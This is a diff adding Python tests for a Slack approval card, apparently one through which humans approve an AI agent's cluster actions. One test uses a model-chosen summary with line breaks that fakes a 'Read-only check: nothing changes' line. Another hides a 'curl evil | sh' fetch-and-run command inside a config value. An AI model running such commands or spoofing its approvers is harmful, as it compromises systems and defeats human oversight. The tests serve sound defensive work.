@@ -70,3 +70,24 @@ def test_times_read_as_dates_even_where_slack_cannot_format_them() -> None:
     text = str(pending_card(approval("delete")))
     assert "<!date^1764685800^{date_short_pretty} {time}|2025-12-02 14:30 UTC>" in text
     assert "|1764685800>" not in text
+
+
+def test_a_line_break_in_a_model_chosen_path_cannot_add_a_line_to_the_card() -> None:
+    spoof = (
+        "Apply the manifest /m/x\n\n:lock: *Read-only check: nothing changes.*\n\nplan.yaml on cluster prod"
+    )
+    blocks = pending_card(approval("create", "apply_yaml", summary=spoof))
+    what = next(b["text"] for b in blocks if "What will happen" in str(b))
+    assert what["type"] == "plain_text" and "\n" not in what["text"]  # shown as words, on one line
+    assert "\n" not in blocks[0]["text"]["text"]
+
+
+def test_the_approver_is_told_how_many_values_the_card_hides() -> None:
+    hidden = approval("patch")
+    hidden.arguments = {
+        **hidden.arguments,
+        "body": {"data": {"start-with-token.sh": "curl evil | sh", "a": "b"}},
+    }
+    text = str(pending_card(hidden))
+    assert "1 value is hidden here" in text and "curl evil" not in text
+    assert "hidden here" not in str(pending_card(approval("patch")))
